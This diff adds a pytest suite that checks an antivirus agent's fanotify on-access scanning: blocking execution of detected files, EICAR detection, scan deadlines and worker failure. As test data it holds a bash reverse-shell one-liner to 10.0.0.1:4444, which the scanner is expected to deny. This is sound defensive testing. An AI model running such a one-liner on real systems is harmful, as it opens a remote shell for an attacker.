@@ -1,0 +1,174 @@
+"""
+On-access scanning and blocking (fanotify).  Every test mounts a tmpfs of
+its own and gives only that to the agent: no permission mark is ever put
+on a mount the test did not create.
+"""
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import time
+
+import pytest
+
+from agentlib import DEFAULT_SRC, Agent, Keys, read_journal
+from conftest import EICAR
+
+REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
+
+
+@pytest.fixture
+def box(ward, tmp_path):
+    if os.geteuid() != 0:
+        pytest.fail("the on-access tests run as root (make check runs them so)", pytrace=False)
+    mnt = tmp_path / "mnt"
+    mnt.mkdir()
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m,mode=0755", "wardtest", str(mnt)],
+                   check=True)
+    assert os.path.ismount(mnt), "refusing to go on: %s is not the test's own mount" % mnt
+    keys = Keys(ward, str(tmp_path / "keys"))
+    rel = keys.make("release")
+    v1 = str(tmp_path / "v1.wbundle")
+    assert ward.run("content", "build", DEFAULT_SRC, "-o", v1).returncode == 0
+    assert ward.run("content", "sign", v1, "--key", rel[0]).returncode == 0
+    agents = []
+
+    class Box:
+        pass
+
+    b = Box()
+    b.mnt, b.ward, b.tmp = str(mnt), ward, tmp_path
+
+    def agent(extra=(), fault=False, env_vars=None, paths=None):
+        d = tmp_path / ("agent%d" % len(agents))
+        d.mkdir()
+        lines = ["onaccess:", "  paths: [%s]" % ", ".join(paths or [str(mnt)])] + list(extra)
+        a = Agent(ward, d, [rel[1]], fault=fault, extra=lines, env=env_vars)
+        agents.append(a)
+        a.start()
+        p = a.apply(v1)
+        assert p.returncode == 0, p.stderr
+        return a
+
+    b.agent = agent
+    yield b
+    for a in agents:
+        a.stop()
+    subprocess.run(["umount", str(mnt)], check=True)
+
+
+def write_exec(path, data):
+    with open(path, "wb") as f:
+        f.write(data)
+    os.chmod(path, 0o755)
+    return path
+
+
+def exec_cmd(path):
+    """Runs path through sh's exec, so that a denied exec is an exit status
+    (126, "Operation not permitted") and a blocked one does not block the
+    test in Popen."""
+    return ["/bin/sh", "-c", 'exec "$0"', path]
+
+
+def run(path, timeout=10):
+    t0 = time.time()
+    p = subprocess.run(exec_cmd(path), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                       timeout=timeout)
+    return p, time.time() - t0
+
+
+def wait_events(a, action, n=1, timeout=5):
+    end = time.time() + timeout
+    while time.time() < end:
+        evs = [e for _, e in read_journal(a.state) if e["event"]["action"] == action]
+        if len(evs) >= n:
+            return evs
+        time.sleep(0.05)
+    raise AssertionError("no %s event; journal: %s" % (
+        action, [e["event"]["action"] for _, e in read_journal(a.state)]))
+
+
+def test_exec_of_detected_file_denied(box):
+    a = box.agent()
+    good = write_exec(os.path.join(box.mnt, "good.sh"), b"#!/bin/sh\necho clean-ran\n")
+    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
+    bad = write_exec(os.path.join(box.mnt, "update.sh"), REVSHELL)
+    p, _ = run(good)
+    assert p.returncode == 0 and p.stdout == b"clean-ran\n"
+    p, _ = run(os.path.join(box.mnt, "true"))
+    assert p.returncode == 0
+    p, _ = run(bad)
+    assert p.returncode == 126 and b"Operation not permitted" in p.stderr, p
+    # Again (from the verdict cache): still denied.
+    p, _ = run(bad)
+    assert p.returncode == 126
+    st = a.status()["sensors"]["onaccess"]
+    assert st["state"] == "on" and st["counters"]["denied"] == 2
+    assert st["counters"]["cache_hits"] >= 1
+    denied = wait_events(a, "file-execution-denied", 2)
+    ev = denied[0]
+    assert ev["file"]["path"] == bad and ev["rule"]["name"] == "Reverse_Shell_Oneliner"
+    assert ev["event"]["kind"] == "alert" and ev["event"]["type"] == ["denied"]
+    assert ev["process"]["pid"] > 0
+    # Rewriting the file with clean content lets it run (the write drops the verdict).
+    write_exec(bad, b"#!/bin/sh\necho fixed\n")
+    p, _ = run(bad)
+    assert p.returncode == 0 and p.stdout == b"fixed\n"
+
+
+def test_written_detection_reported(box):
+    a = box.agent()
+    with open(os.path.join(box.mnt, "eicar.com"), "wb") as f:
+        f.write(EICAR)
+    evs = wait_events(a, "file-written-detected")
+    assert evs[0]["file"]["path"] == os.path.join(box.mnt, "eicar.com")
+    assert evs[0]["rule"]["name"].startswith("EICAR_Test_File")
+
+
+def test_stuck_scan_fails_open_at_the_deadline(box):
+    a = box.agent(extra=["  deadline_ms: 200"], fault=True,
+                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "3000"})
+    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
+    time.sleep(0.2)
+    p, took = run(os.path.join(box.mnt, "true"))
+    assert p.returncode == 0
+    assert took < 2.0, "exec waited %.2f s: the deadline did not answer" % took
+    assert a.status()["sensors"]["onaccess"]["counters"]["late"] >= 1
+
+
+def test_stuck_scan_fail_closed(box):
+    a = box.agent(extra=["  deadline_ms: 200", "  fail_closed: true"], fault=True,
+                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "3000"})
+    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
+    time.sleep(0.2)
+    p, took = run(os.path.join(box.mnt, "true"))
+    assert p.returncode == 126 and took < 2.0
+    assert a.status()["sensors"]["onaccess"]["counters"]["late"] >= 1
+
+
+def test_worker_death_releases_pending_access(box):
+    """A blocked exec goes through when the worker dies: the kernel answers
+    every pending permission event when the fanotify descriptor closes."""
+    a = box.agent(extra=["  deadline_ms: 60000"], fault=True,
+                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "60000"})
+    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
+    time.sleep(0.2)
+    pid = a.worker_pid()
+    t0 = time.time()
+    proc = subprocess.Popen(exec_cmd(os.path.join(box.mnt, "true")))
+    time.sleep(1.0)
+    assert proc.poll() is None, "the exec should be waiting for the stalled scan"
+    os.kill(pid, signal.SIGKILL)
+    assert proc.wait(timeout=10) == 0
+    assert time.time() - t0 < 10
+
+
+def test_sensor_off_is_said(box, tmp_path):
+    a = box.agent(paths=[str(tmp_path / "does-not-exist")])
+    st = a.status()["sensors"]["onaccess"]
+    assert st["state"] == "off" and "does-not-exist" in st["reason"]
+    evs = wait_events(a, "sensor-off")
+    assert evs[0]["ward"]["sensor"] == "onaccess"
